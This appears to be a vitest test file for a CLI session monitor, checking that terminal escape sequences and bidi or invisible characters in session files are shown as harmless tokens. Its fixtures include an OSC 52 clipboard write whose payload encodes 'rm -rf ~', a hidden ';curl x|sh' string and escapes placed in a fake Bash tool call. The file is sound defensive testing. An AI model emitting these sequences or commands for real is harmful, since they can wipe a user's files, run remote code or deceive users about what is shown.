// Issue 11 item 2: text from session files never controls the terminal. Titles, custom titles,
// Codex thread names, folders, branches and tool commands are printed with every control
// character shown visibly, one line per row; `--json` keeps the exact strings.
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Snapshot } from '../../../src/engine';
import { jsonLine, terminalLine } from '../../../src/main/text/terminal-text';
import { shownText } from '../../../src/main/notify/notification-text';
import { FIXTURES } from '../../providers/fixture-roots';
import { runCli } from '../cli-process';

// OSC 52 (clipboard), OSC 0 (window title), CSI 2J (clear), OSC 8 (link), 8-bit CSI, a bidi
// override, and raw newlines and carriage returns that would forge rows.
const HOSTILE =
  'fix \u001b]52;c;cm0gLXJmIH4=\u0007 \u001b]0;pwned\u0007 \u001b[2J \u001b]8;;http://x\u001b\\link\u001b]8;;\u001b\\ \u009b31m \u202e evil\nfake row\rover';
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
const NOW = '2026-11-29T12:05:00.000Z';
const ID = 'c1a00000-0000-4000-8000-0000000000e1';

let dir: string;
let env: Record<string, string>;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'lookout-escapes-'));
  // A Claude Code 2.1.143-shaped session: the prompt, a custom title, a pending Bash call, all hostile.
  const project = join(dir, 'claude', 'projects', '-home-me-app');
  mkdirSync(project, { recursive: true });
  const base = {
    isSidechain: false,
    userType: 'external',
    entrypoint: 'cli',
    cwd: `/home/me/app\u001b]0;cwd\u0007`,
    sessionId: ID,
    version: '2.1.143',
    gitBranch: `main\u001b[2J`,
  };
  const lines = [
    { ...base, parentUuid: null, type: 'user', uuid: 'u1', timestamp: '2026-11-29T12:00:00.000Z', message: { role: 'user', content: HOSTILE } },
    { type: 'custom-title', customTitle: HOSTILE, sessionId: ID },
    {
      ...base,
      parentUuid: 'u1',
      type: 'assistant',
      uuid: 'a1',
      timestamp: '2026-11-29T12:00:05.000Z',
      message: {
        id: 'msg_1',
        type: 'message',
        role: 'assistant',
        model: 'claude-sonnet-4-5',
        content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command: HOSTILE } }],
        stop_reason: 'tool_use',
      },
    },
  ];
  writeFileSync(join(project, `${ID}.jsonl`), `${lines.map((line) => JSON.stringify(line)).join('\n')}\n`);
  // A Codex thread name (session_index.jsonl) on a real-shaped rollout fixture.
  cpSync(join(FIXTURES, 'codex', 'working'), join(dir, 'codex'), { recursive: true });
  env = { HOME: dir, CLAUDE_CONFIG_DIR: join(dir, 'claude'), CODEX_HOME: join(dir, 'codex'), LOOKOUT_HOME: join(dir, 'home') };
  const status = JSON.parse(runCli(['status', '--json', '--now', NOW], env).stdout) as Snapshot;
  const codex = status.sessions.find((row) => row.provider === 'codex');
  if (codex === undefined) throw new Error('the codex fixture gave no row');
  writeFileSync(
    join(dir, 'codex', 'session_index.jsonl'),
    `${JSON.stringify({ id: codex.sessionId, thread_name: HOSTILE, updated_at: '2026-11-29T12:00:00Z' })}\n`,
  );
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Output lines, each checked for control characters (a tab is allowed nowhere either, but none is printed). */
function clean(text: string): void {
  for (const line of text.split('\n')) expect(line, JSON.stringify(line)).not.toMatch(CONTROL);
}

describe('terminal escapes from session files', () => {
  it('terminalLine shows every control character and keeps one line', () => {
    const line = terminalLine(HOSTILE);
    expect(line).not.toMatch(CONTROL);
    expect(line).not.toContain('\n');
    expect(line).not.toContain('\r');
    expect(line).toContain('\u241b]52;c;'); // ESC shown as ␛
    expect(line).toContain('<U+009B>');
    expect(line).toContain('<U+202E>');
    expect(terminalLine('plain text · ● ✕')).toBe('plain text · ● ✕');
  });

  it('issue 47 item 2 the terminal and a notification show every bidi, invisible and unusual blank character as a token', () => {
    const hidden: Record<string, string> = {
      '\u202e': '<U+202E>',
      '\u2066': '<U+2066>',
      '\u200e': '<U+200E>',
      '\u200f': '<U+200F>',
      '\u061c': '<U+061C>',
      '\u200b': '<U+200B>',
      '\u200d': '<U+200D>',
      '\u2060': '<U+2060>',
      '\ufeff': '<U+FEFF>',
      '\u00ad': '<U+00AD>',
      '\u180e': '<U+180E>',
      '\u00a0': '<U+00A0>',
      '\u2003': '<U+2003>',
      '\u3000': '<U+3000>',
      '\u3164': '<U+3164>',
      '\u{e0041}': '<U+E0041>',
      '\t': '\u2409',
    };
    for (const [char, token] of Object.entries(hidden)) {
      expect(terminalLine(`a${char}b`), JSON.stringify(char)).toBe(`a${token}b`);
      expect(shownText({ title: `t${char}`, body: `Bash: a${char}b` }, false), JSON.stringify(char)).toEqual({ title: `t${token}`, body: `Bash: a${token}b` });
    }
    expect(terminalLine('echo ok \u202e;curl x|sh #\u2066# cleanup')).toBe('echo ok <U+202E>;curl x|sh #<U+2066># cleanup');
    expect(terminalLine('plain é 日本 🚀 a b')).toBe('plain é 日本 🚀 a b');
  });

  it('jsonLine keeps the exact strings and escapes every control character', () => {
    const text = jsonLine({ title: HOSTILE });
    expect(text).not.toMatch(CONTROL);
    expect((JSON.parse(text) as { title: string }).title).toBe(HOSTILE);
  });

  it('status prints one line per row and its title, with nothing that controls the terminal', () => {
    const result = runCli(['status', '--now', NOW], env);
    expect(result.code).toBe(0);
    clean(result.stdout);
    clean(result.stderr);
    // The header, then per row its line and its title line: two rows, so five lines.
    expect(result.stdout.trimEnd().split('\n')).toHaveLength(5);
    expect(result.stdout).toContain('␛]52;c;');
  });

  it('status --json keeps the exact strings', () => {
    const snapshot = JSON.parse(runCli(['status', '--json', '--now', NOW], env).stdout) as Snapshot;
    const titles = snapshot.sessions.map((row) => row.title);
    expect(titles).toEqual(expect.arrayContaining([HOSTILE]));
    expect(snapshot.sessions.find((row) => row.sessionId === ID)?.observed.detail).toContain('\u001b]52;');
  });

  it('next, explain and a usage error stay clean', () => {
    for (const args of [['next'], ['explain', ID], ['explain', `c1a\u001b]0;x\u0007`], ['review', ID, `bad\u001b[2J`]]) {
      const result = runCli([...args, '--now', NOW], env);
      clean(result.stdout);
      clean(result.stderr);
    }
    expect(runCli(['explain', ID, '--now', NOW], env).stdout).toContain('␛]0;cwd');
  });

  it('watch prints clean tables', async () => {
    const { spawn } = await import('node:child_process');
    const { CLI } = await import('../cli-process');
    const child = spawn(process.execPath, [CLI, 'watch', '--now', NOW], { env: { PATH: process.env.PATH ?? '', ...env } });
    let out = '';
    // The first table is waited for, however long a loaded machine takes; then Ctrl-C.
    await new Promise<void>((resolve) => {
      child.stdout.on('data', (chunk: Buffer) => {
        out += chunk.toString();
        if (out.includes('\n\n')) resolve();
      });
    });
    await new Promise((resolve) => {
      child.once('exit', resolve);
      child.kill('SIGINT');
    });
    expect(out).toContain('Lookout ·');
    clean(out);
  });
});
